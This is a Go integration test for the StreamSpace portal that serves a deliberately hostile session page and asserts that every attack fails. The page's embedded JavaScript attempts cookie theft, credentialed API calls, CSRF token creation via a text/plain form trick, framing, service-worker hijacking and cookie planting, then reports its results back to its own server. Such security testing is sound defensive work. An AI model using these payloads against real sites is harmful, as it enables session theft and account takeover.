package portal_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"html/template"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	streamv1 "github.com/streamspace/streamspace/api/v1alpha1"
	"github.com/streamspace/streamspace/portal"
	"github.com/streamspace/streamspace/portal/web"
	"github.com/streamspace/streamspace/test/freeport"
	"github.com/streamspace/streamspace/test/testenv"
)

// hostilePage is what a hostile session serves: each attack the issue
// names, its outcome posted to its own server (/report) as "failed: …" or
// "succeeded: …" ("sent" where only the portal can tell: it must have
// done nothing).
var hostilePage = template.Must(template.New("").Parse(`<!doctype html><title>hostile</title>
<iframe name="sink" style="display:none"></iframe>
<script>
const PORTAL = {{.}};
const results = {};
async function attempt(name, fn) {
  try { results[name] = 'succeeded: ' + String(await fn()).slice(0, 200); }
  catch (e) { results[name] = 'failed: ' + e; }
}
(async () => {
  await attempt('read the portal cookies', () => {
    if (/ss_/.test(document.cookie)) return document.cookie;
    throw new Error('no portal cookie in ' + JSON.stringify(document.cookie));
  });
  await attempt('read window.top document', () => window.top.document.cookie + window.top.document.body.innerText);
  await attempt('fetch the portal API with credentials', async () => {
    const r = await fetch(PORTAL + '/api/v1/users/me', { credentials: 'include' });
    const body = await r.text();
    if (!r.ok) throw new Error('status ' + r.status);
    return body;
  });
  await attempt('create a token with credentials (JSON)', async () => {
    const r = await fetch(PORTAL + '/api/v1/tokens', { method: 'POST', credentials: 'include',
      headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name: 'stolen' }) });
    return 'status ' + r.status + ' ' + (await r.text());
  });
  await attempt('create a token without preflight (no-cors)', async () => {
    await fetch(PORTAL + '/api/v1/tokens', { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({ name: 'stolen' }) });
    throw new Error('sent, opaque');
  });
  await attempt('create a token by form POST', async () => {
    const f = document.createElement('form');
    f.method = 'POST'; f.action = PORTAL + '/api/v1/tokens'; f.target = 'sink'; f.enctype = 'text/plain';
    const i = document.createElement('input'); i.name = '{"name":"stolen","x":"'; i.value = '"}';
    f.appendChild(i); document.body.appendChild(f); f.submit();
    await new Promise((r) => setTimeout(r, 1500));
    throw new Error('sent');
  });
  await attempt('frame the portal', async () => {
    const f = document.createElement('iframe');
    f.src = PORTAL + '/dashboard';
    document.body.appendChild(f);
    await new Promise((r) => { f.onload = r; setTimeout(r, 3000); });
    return f.contentDocument.body.innerText;
  });
  await attempt('register a service worker for the portal', async () => {
    const r = await navigator.serviceWorker.register(PORTAL + '/sw.js', { scope: PORTAL + '/' });
    return r.scope;
  });
  await attempt('register a service worker for the portal from its own script', async () => {
    const r = await navigator.serviceWorker.register('/sw.js', { scope: PORTAL + '/' });
    return r.scope;
  });
  await attempt('set a cookie for the parent domain', () => {
    document.cookie = 'ss_access=planted; domain=localhost; path=/';
    document.cookie = 'ss_planted=planted; domain=.localhost; path=/';
    throw new Error('set; the browser decides where it goes');
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  window.hostileDone = true;
})();
</script>`))

// browserAttempts is what hostile.mjs reads from the browser.
type browserAttempts struct {
	Sandbox       string   `json:"sandbox"`
	Framed        []string `json:"framed"`
	FramedContent []string `json:"framedContent"`
	PortalWorkers []string `json:"portalWorkers"`
	PortalCookies []string `json:"portalCookies"`
}

// whyNoBrowser says why Chromium cannot be driven against this test
// binary's portal, or "".
func whyNoBrowser(web string) string {
	chromium := os.Getenv("CHROMIUM")
	if chromium == "" {
		chromium = "/usr/bin/chromium"
	}
	if _, err := os.Stat(chromium); err != nil {
		return "no Chromium at " + chromium
	}
	if _, err := exec.LookPath("node"); err != nil {
		return "node is not installed"
	}
	if _, err := os.Stat(filepath.Join(web, "node_modules", "playwright-core")); err != nil {
		return "portal/web/node_modules has no playwright-core (make ui)"
	}
	return ""
}

// TestApps_hostileSessionPage_inChromium_getsNothingOfThePortal: the real
// portal (with its UI) on localhost, apps hosts on *.localhost; a session
// whose page attacks the portal, loaded by the real viewer in its
// sandboxed frame; every attack fails, by the page's own report and by
// what the portal and the browser show afterwards.
func TestApps_hostileSessionPage_inChromium_getsNothingOfThePortal(t *testing.T) {
	uiDir := filepath.Join(testenv.RepoRoot(), "portal", "web")
	if why := whyNoBrowser(uiDir); why != "" {
		t.Skip("skipped: " + why)
	}
	ctx := context.Background()
	port := freeport.For(t)
	public := fmt.Sprintf("http://localhost:%d", port)

	reports := make(chan map[string]string, 1)
	hostile := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/report":
			got := map[string]string{}
			_ = json.NewDecoder(io.LimitReader(r.Body, 1<<20)).Decode(&got)
			select {
			case reports <- got:
			default:
			}
		case "/sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, "self.addEventListener('fetch', () => {});")
		default:
			w.Header().Set("Content-Type", "text/html")
			_ = hostilePage.Execute(w, public)
		}
	})}
	hl, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = hostile.Serve(hl) }()
	t.Cleanup(func() { _ = hostile.Close() })

	h := newHandlers(func(c *portal.Components) { c.AppsDomain, c.PublicURL = "localhost", public })
	h.Stream.WebUpstream = func(*streamv1.Session, *streamv1.Template) string { return "http://" + hl.Addr().String() }
	h.UI = web.Handler() // as Run serves it
	pl, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", port))
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: portal.Handler(h)}
	go func() { _ = srv.Serve(pl) }()
	t.Cleanup(func() { _ = srv.Close() })
	if resp, body := (&appsPortal{t: t, srv: &httptest.Server{URL: public}}).do(http.MethodGet, "", "/", nil); resp.StatusCode != http.StatusOK || strings.Contains(body, "not built into this binary") {
		t.Skipf("skipped: this test binary's portal has no web UI (%d %.80q): go test -tags ui ./portal (after make ui)", resp.StatusCode, body)
	}

	// a web-client session (Selkies: the viewer frames its apps host)
	s := &streamv1.Session{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "alice-hostile-ui"}, Spec: streamv1.SessionSpec{User: "alice", Template: "firefox"}}
	if err := env.Client.Create(ctx, s); err != nil {
		t.Fatal(err)
	}
	setStatus(t, s, streamv1.PhaseRunning, time.Now())
	tokensBefore, err := db.ListAPITokens(ctx, "alice")
	if err != nil {
		t.Fatal(err)
	}

	run, cancel := context.WithTimeout(ctx, 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(run, "node", "e2e/hostile.mjs")
	cmd.Dir = uiDir
	cmd.Env = append(os.Environ(), "PORTAL_URL="+public, "SESSION="+s.Name, "USER_NAME=alice", "USER_PASSWORD=password-of-alice")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true} // Chromium is node's child
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	cmd.WaitDelay = 10 * time.Second
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("hostile.mjs: %v\n%s", err, out)
	}
	var seen browserAttempts
	sc := bufio.NewScanner(strings.NewReader(string(out)))
	for sc.Scan() {
		if rest, ok := strings.CutPrefix(sc.Text(), "RESULT "); ok {
			if err := json.Unmarshal([]byte(rest), &seen); err != nil {
				t.Fatal(err)
			}
		}
	}
	var page map[string]string
	select {
	case page = <-reports:
	default:
		t.Fatalf("the hostile page reported nothing:\n%s", out)
	}

	// the page's own report
	if len(page) != 10 {
		t.Errorf("the page reported %d attempts, want 10: %v", len(page), page)
	}
	for name, outcome := range page {
		t.Logf("%s: %s", name, outcome)
		if !strings.HasPrefix(outcome, "failed: ") {
			t.Errorf("%s: %s", name, outcome)
		}
	}
	// what only the portal can tell: nothing sent with the user's
	// credentials did anything
	tokensAfter, err := db.ListAPITokens(ctx, "alice")
	if err != nil {
		t.Fatal(err)
	}
	if len(tokensAfter) != len(tokensBefore) {
		t.Errorf("alice has %d API tokens after the hostile page, %d before", len(tokensAfter), len(tokensBefore))
	}
	// what only the browser can tell
	t.Logf("browser: %+v", seen)
	if seen.Sandbox == "" || strings.Contains(seen.Sandbox, "allow-top-navigation") || strings.Contains(seen.Sandbox, "allow-popups") {
		t.Errorf("the viewer's frame sandbox %q", seen.Sandbox)
	}
	// the page's frames (its frame of the portal, and the form's target)
	// are Chromium's error page: the portal refuses to be framed
	// (frame-ancestors 'none'), its answers to the POSTs included
	if len(seen.Framed) != 2 {
		t.Errorf("the page has %d frames, want 2: %v", len(seen.Framed), seen.Framed)
	}
	for i, u := range seen.Framed {
		if !strings.HasPrefix(u, "chrome-error://") {
			t.Errorf("the page framed the portal (%s) and it showed: %.200q", u, seen.FramedContent[i])
		}
	}
	if len(seen.PortalWorkers) != 0 {
		t.Errorf("service workers on the portal's origin: %v", seen.PortalWorkers)
	}
	for _, c := range seen.PortalCookies {
		if strings.Contains(c, "planted") {
			t.Errorf("the page planted a cookie the portal receives: %s", c)
		}
	}
}
